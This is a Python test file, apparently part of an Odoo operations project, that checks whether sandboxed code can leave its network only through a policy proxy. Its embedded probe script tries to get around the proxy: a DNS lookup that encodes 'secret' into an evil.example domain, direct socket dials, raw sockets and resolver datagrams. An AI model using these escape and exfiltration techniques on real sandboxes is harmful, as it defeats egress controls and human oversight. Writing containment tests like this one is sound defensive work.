"""Code in an environment's sandbox that wants out: its launcher's way leads to the proxy, and there is no other one."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest

from odooops_dagster.home import exit_folder, outlet
from odooops_dagster.model import Job, Limits, Sandbox
from odooops_dagster.tools.odoo.commands import launcher
from odooops_dagster.tools.runtime.docker import DockerRuntime
from odooops_dagster.tools.runtime.sandbox import bubblewrap
from odooops_dagster.tools.runtime.sandbox.interpreters import interpreter_folders
from tests.conftest import missing
from tests.docker_engine import Engine
from tests.egress import LettingOut, Server, letting_out, server
from tests.outlets import BEGIN, wait_until
from tests.servers import state_folder

# An account that owns nothing else on this machine.
_ACCOUNT = 61004

# Each way is tried, and what came of it is printed: `reached`, or the error.
CODE = """
import json, os, socket, subprocess, urllib.request
target = {target!r}
host, port = target.rsplit(":", 1)
found = {{}}

def attempt(name, call):
    try:
        call()
        found[name] = "reached"
    except OSError as exc:
        found[name] = str(exc) or type(exc).__name__

def dial(family, address):
    with socket.socket(family) as client:
        client.settimeout(5)
        client.connect((address, int(port)))

asks = 'attempt("asks", lambda: urllib.request.urlopen("http://" + target + "/", timeout=30).read())'
exec(asks, dict(globals(), __name__="odoo.addons.shop.models.order"))
attempt("asks for another", lambda: urllib.request.urlopen("https://other.example/", timeout=30))
direct = urllib.request.build_opener(urllib.request.ProxyHandler({{}}))
attempt("asks past the proxy", lambda: direct.open("http://" + target + "/", timeout=5))
attempt("dials", lambda: dial(socket.AF_INET, host))
attempt("dials by IPv6", lambda: dial(socket.AF_INET6, "::ffff:" + host))
attempt("looks up", lambda: socket.getaddrinfo("c2VjcmV0.evil.example", 443))
datagram = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("sends to a resolver", lambda: datagram.sendto(b"x", ("192.0.2.53", 53)))
attempt("opens a raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
found["folders"] = sorted(os.listdir("/run/exit"))
found["others"] = os.path.exists({other!r})
found["writes"] = os.access("/run/exit", os.W_OK)
print(json.dumps(found))
"""


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LettingOut]:
    """Yield a proxy for the tests of this file."""
    if shutil.which("bwrap") is None:
        missing("bubblewrap is not installed: scripts/dev/system-packages.sh")
    with letting_out(tmp_path_factory.mktemp("ways")) as made:
        yield made


@pytest.fixture(scope="module")
def trap() -> Iterator[Server]:
    """Yield a server that the environment may reach."""
    with server("127.0.0.2") as made:  # 127.0.0.1 is each environment's own
        yield made


def sandbox_of(out: LettingOut, environment: UUID, **more: Any) -> Sandbox:  # noqa: ANN401 - fields of a sandbox
    """Return a sandbox as an environment's is."""
    home, heard_at = out.home / f"home-{environment.hex}", outlet(out.home, environment)
    for folder in (home, heard_at):
        folder.mkdir(parents=True, exist_ok=True)
    mounts = {"/run/outlet": heard_at, "/run/exit": exit_folder(out.home, environment)}
    return Sandbox(writable=(home,), readable=(launcher().parent,), mounts=mounts, home=home, **more)


def code_of(out: LettingOut, trap: Server, other: UUID) -> list[str]:
    """Return the code with its arguments."""
    code = BEGIN + CODE.format(target=f"127.0.0.2:{trap.port}", other=str(exit_folder(out.home, other)))
    return ["-c", code, "/run/outlet", "/run/exit"]


def run(out: LettingOut, environment: UUID, trap: Server, *, other: UUID, has_network: bool = False) -> dict[str, Any]:
    """Run the code in a sandbox, and return what it found."""
    made = sandbox_of(out, environment, shares_network=has_network, limits=Limits(processes=0))
    made = replace(made, readable=(*made.readable, *interpreter_folders(Path(sys.executable))))
    argv = [sys.executable, *code_of(out, trap, other)]
    done = subprocess.run(
        bubblewrap.command(made, argv, cwd=made.home), capture_output=True, text=True, check=False, timeout=120
    )
    assert done.returncode == 0, done.stderr
    return dict(json.loads(done.stdout))


def test_an_environment_gets_out_by_the_proxy_alone(out: LettingOut, trap: Server) -> None:
    """What it may reach it reaches; every other way ends in its own network, in which nothing is."""
    environment, other = uuid4(), uuid4()
    out.ruled(environment, f"127.0.0.2:{trap.port}")
    out.ruled(other)
    judge(out, environment, run(out, environment, trap, other=other))


@pytest.mark.docker
@pytest.mark.root
def test_a_container_gets_out_by_the_proxy_alone(engine: Engine, trap: Server) -> None:
    """As a process does: by the same socket, the same list and into the same record."""
    environment, other = uuid4(), uuid4()
    with state_folder("ways", parent=Path("/var/tmp")) as home, letting_out(home) as out:  # noqa: S108 - its own
        out.ruled(environment, f"127.0.0.2:{trap.port}")
        out.ruled(other)
        sandbox = sandbox_of(out, environment, uid=_ACCOUNT)
        os.chown(sandbox.home, _ACCOUNT, _ACCOUNT)
        argv = ("/usr/bin/python3", *code_of(out, trap, other))
        job = Job(name="ways", argv=argv, cwd=sandbox.home, sandbox=sandbox, log_path=home / "job.log")
        result = DockerRuntime(home / "runtime-of-test", engine=engine.url, image=engine.image).execute(job)
        assert result.exit_status == 0, job.log_path.read_text()
        judge(out, environment, dict(json.loads(job.log_path.read_text().splitlines()[-1])))


def judge(out: LettingOut, environment: UUID, found: dict[str, Any]) -> None:
    """Compare what the code found, and what the proxy has counted, with what shall be."""
    assert found.pop("asks") == "reached"
    assert "ops policy set shop egress" in found.pop("asks for another")
    assert found.pop("folders") == ["proxy"]
    assert (found.pop("others"), found.pop("writes")) == (False, False)
    assert [name for name, came in found.items() if came == "reached"] == []

    def told() -> dict[str, Any] | None:
        rows = [row for path in out.left(environment) for row in json.loads(path.read_text())["attempts"]]
        by_outcome = {row["outcome"]: row for row in rows}
        return by_outcome if len(by_outcome) == 2 else None

    wait_until(told, what="both on the record")
    seen = told() or {}
    assert (seen["allowed"]["module"], seen["allowed"]["protocol"]) == ("shop", "http")
    assert (seen["refused"]["destination"], seen["refused"]["port"]) == ("other.example", 443)


def test_with_the_machine_s_network_it_would_get_past_it(out: LettingOut, trap: Server) -> None:
    """What holds it is the sandbox: the variables that name the proxy are only for those who ask politely."""
    environment = uuid4()
    out.ruled(environment)
    found = run(out, environment, trap, other=uuid4(), has_network=True)
    assert "ops policy set shop egress" in found["asks"]
    assert found["dials"] == found["asks past the proxy"] == "reached"
